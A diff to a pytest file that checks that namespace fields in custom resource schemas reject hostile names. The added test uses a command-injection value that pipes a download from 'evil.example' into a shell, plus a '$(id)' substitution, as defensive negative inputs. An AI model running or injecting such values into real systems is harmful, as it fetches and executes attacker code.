@@ -63,6 +63,14 @@ def test_no_field_takes_a_namespace(path: Path) -> None:
 
 
 @pytest.mark.parametrize("path", CRDS, ids=lambda path: path.stem)
+def test_a_namespace_that_people_follow_leads_nowhere_else(path: Path) -> None:
+    for where, schema in fields(spec_and_status(path)):
+        if where in SAID:
+            for name in (*OF_OTHERS, "unit-b.dms", "x; curl evil.example | sh #", "$(id)"):
+                assert re.search(schema["pattern"], name) is None, f"{where} takes {name!r}"
+
+
+@pytest.mark.parametrize("path", CRDS, ids=lambda path: path.stem)
 def test_a_reference_is_the_name_of_an_object_and_leads_nowhere_else(path: Path) -> None:
     assert references(path), "each kind refers to something"
     for where, schema in references(path).items():
